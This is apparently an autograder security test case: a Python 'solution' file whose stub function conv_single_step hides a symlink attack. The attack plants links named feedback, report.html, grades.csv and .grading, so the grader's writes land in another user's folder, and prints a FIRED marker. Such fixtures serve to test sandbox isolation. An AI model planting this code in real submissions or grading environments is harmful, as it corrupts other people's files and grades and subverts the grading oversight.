# what: Lays links to a foreign folder where the grader will write feedback and autograded files, in the class's folder and in its own.
# gains: others
# where: solution
# fires: stdout text `FIRED link_where_grader_writes`
# stock: succeeds

import os

root = os.path.dirname("@GRADEBOOK@")
try:
    os.makedirs("@VICTIM@/link_where_grader_writes", exist_ok=True)
except OSError as error:
    print("held:", error)
for place in ("feedback", "report.html", "report.csv", "grades.csv", ".grading"):
    for folder in (root, "."):
        try:
            os.symlink("@VICTIM@/link_where_grader_writes" + ("" if place == "feedback" else "/" + place), os.path.join(folder, place))
            print("HURT planted" if folder == root else "planted", place, "in", folder)
        except OSError:
            pass
print("FIRED link_where_grader_writes", flush=True)


def conv_single_step(a_slice_prev, W, b):
    return 0.0
